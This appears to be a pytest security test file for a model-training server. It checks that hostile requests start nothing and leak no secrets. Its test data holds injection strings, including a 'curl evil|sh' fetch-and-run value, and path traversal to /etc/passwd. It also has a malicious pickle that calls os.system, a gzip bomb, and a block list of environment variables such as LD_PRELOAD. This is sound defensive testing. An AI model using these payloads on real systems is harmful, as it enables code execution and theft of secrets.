"""A request starts the training it describes, and nothing else."""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import TOKEN
from tests.real import PREFIX, delete, until
from tests.security.conftest import HIDDEN, Target

from lastwords.folders import runfolder

LINE = "; touch pwned | $(id) `id` && x"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("outputDir", "x; curl evil|sh"),
        ("output_dir", "/etc"),
        ("command", ["sh"]),
        ("environment", {"LD_PRELOAD": "x"}),
        ("trustRemoteCode", True),
        ("__proto__", {}),
        ("baseModel", ""),
        ("baseModel", "--trust_remote_code"),
        ("baseModel", "-c"),
        ("baseModel", "a\nb"),
        ("baseModel", "a\0b"),
        ("baseModel", "m" * 200_000),
        ("baseModel", "/etc"),
        ("baseModel", "../../etc"),
        ("baseModel", ["a"]),
        ("baseModel", {"a": 1}),
        ("dataFile", "/etc/passwd"),
        ("dataFile", "../../../../etc/passwd"),
        ("dataFile", "/proc/self/environ"),
        ("dbPath", "file:///etc/passwd"),
        ("loraTargets", ["q", "--output-dir=/etc"]),
        ("loraTargets", ["q\0"]),
        ("epochs", "1; reboot"),
        ("epochs", True),
        ("epochs", 10**400),
        ("learningRate", "1e-4"),
        ("seed", -1),
    ],
)
def test_s31_s36_what_is_no_training_is_422_and_starts_nothing(
    target: Target, field: str, value: Any
) -> None:
    before = set((target.home / "runs").iterdir())
    answer = target.server.post("/runs", {field: value})
    assert answer.status in (400, 422), answer.body
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert b"Traceback" not in answer.body and len(answer.body) < 10_000
    assert set((target.home / "runs").iterdir()) == before


def test_s31_a_shell_line_as_a_name_is_a_name(target: Target) -> None:
    run_id = target.server.train("exits-0", name=LINE)
    assert target.server.ended(run_id)["name"] == LINE
    assert not list(target.home.rglob("pwned"))


def test_s32_s35_a_training_gets_one_argument_a_value_and_no_secret(target: Target) -> None:
    run_id = target.server.train("hangs")
    folder = runfolder.attempt_folder(target.home, run_id, 1)
    child = until(lambda: runfolder.read_fact(folder.child))
    try:
        line = Path(f"/proc/{child['pid']}/cmdline").read_bytes().split(b"\0")[:-1]
        assert all(b"=" in part for part in line[2:])
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                text = path.read_bytes()
            except OSError:
                continue
            assert TOKEN.encode() not in text and HIDDEN.encode() not in text
        environment = Path(f"/proc/{child['pid']}/environ").read_bytes()
        assert TOKEN.encode() not in environment and HIDDEN.encode() not in environment
    finally:
        target.server.post(f"/runs/{run_id}/cancel")
        target.server.ended(run_id)


def test_s34_a_training_sees_no_variable_that_changes_what_programs_do() -> None:
    from lastwords.recording.environment import allowed

    hostile = """LD_PRELOAD LD_AUDIT PYTHONSTARTUP PYTHONPATH BASH_ENV ENV IFS PERL5OPT
        NODE_OPTIONS GIT_SSH_COMMAND LASTWORDS_TOKEN PROMPT_COMMAND""".split()
    assert allowed(dict.fromkeys([*hostile, "PATH"], "x")) == {"PATH": "x"}


@pytest.mark.parametrize("keys", [["a", "b"], ["same", "same"]])
def test_several_idempotency_keys_are_refused(target: Target, keys: list[str]) -> None:
    body = b'{"baseModel": "exits-0"}'
    head = [
        f"POST {PREFIX}/runs HTTP/1.1",
        "Host: 127.0.0.1",
        f"Authorization: Bearer {TOKEN}",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
        *[f"Idempotency-Key: {key}" for key in keys],
    ]
    answer = target.raw("\r\n".join(head).encode() + b"\r\n\r\n" + body)
    assert b" 400 " in answer.split(b"\r\n")[0] and b"idempotency-key" in answer


def test_a_retry_of_what_is_being_deleted_is_404(target: Target) -> None:
    """Its row was there as it was looked at, its folder is not any more."""
    run_id = target.server.train("exits-3")
    target.server.ended(run_id)
    delete(target.home / "runs" / run_id)
    answer = target.server.post(f"/runs/{run_id}/retry")
    assert (answer.status, answer.json["type"]) == (404, "/problems/run-not-found")


def test_s27_a_packed_body_is_not_unpacked(target: Target) -> None:
    bomb = gzip.compress(b'{"name": "' + b"x" * 10_000_000 + b'"}')
    assert len(bomb) < 20_000
    answer = target.server.post("/runs", bomb, {"Content-Encoding": "gzip"})
    assert answer.status in (400, 413, 415)


def test_s30_a_body_that_is_too_large_is_413(target: Target) -> None:
    answer = target.server.post("/runs", b"x" * 3_000_000)
    assert (answer.status, answer.json["status"]) == (413, 413)


@pytest.mark.parametrize(
    "body",
    [b"[" * 100_000, b'{"a":' * 50_000, b"\xff\xfe", b"NaN", b"nul", b"", b"{}{}", b"\0"],
)
def test_a_body_that_is_no_json_is_400(target: Target, body: bytes) -> None:
    assert target.server.post("/runs", body).status in (400, 422)


def test_s29_a_pickle_among_the_artifacts_is_never_loaded(target: Target, tmp_path: Path) -> None:
    """Whatever lies there is bytes to the server."""
    import pickle

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, (f"touch {tmp_path}/pwned",))

    for name in (
        "pytorch_model.bin",
        "adapter_model.bin",
        "optimizer.pt",
        "rng_state.pth",
        "x.npy",
    ):
        (target.folder / "artifacts" / name).write_bytes(pickle.dumps(Evil()))
    for view in ("", "/metrics", "/diagnosis", "/report.md"):
        assert target.server.get(f"/runs/{target.run_id}{view}").status == 200
    assert not (tmp_path / "pwned").exists()


def test_s37_a_result_that_a_child_made_up_is_checked_before_it_is_believed(
    target: Target,
) -> None:
    result = target.folder / "result.json"
    kept = result.read_bytes()
    try:
        odd = json.dumps({"finishedAt": "x", "logBytes": -1, "signal": {"a": 1}})
        for forged in ("{}", "[]", '{"exitCode": "0"}', "\0", '{"finishedAt": 1e999}', odd):
            result.unlink()
            result.write_text(forged)
            assert target.server.get(f"/runs/{target.run_id}").status == 200
            assert target.server.get(f"/runs/{target.run_id}/diagnosis").status == 200
    finally:
        result.unlink()
        result.write_bytes(kept)


def test_s38_the_servers_memory_is_closed_to_others_of_its_user(target: Target) -> None:
    """Files of /proc that show memory belong to root once a process is not dumpable."""
    process = target.server.process
    assert process is not None
    if os.geteuid():
        with pytest.raises(PermissionError):
            Path(f"/proc/{process.pid}/environ").read_bytes()
    else:
        status = Path(f"/proc/{process.pid}/environ").stat()
        assert status.st_uid == 0
        done = os.spawnlp(
            os.P_WAIT, "setpriv", "setpriv", "--reuid=65534", "--clear-groups",
            "cat", f"/proc/{process.pid}/environ",
        )  # fmt: skip
        assert done != 0
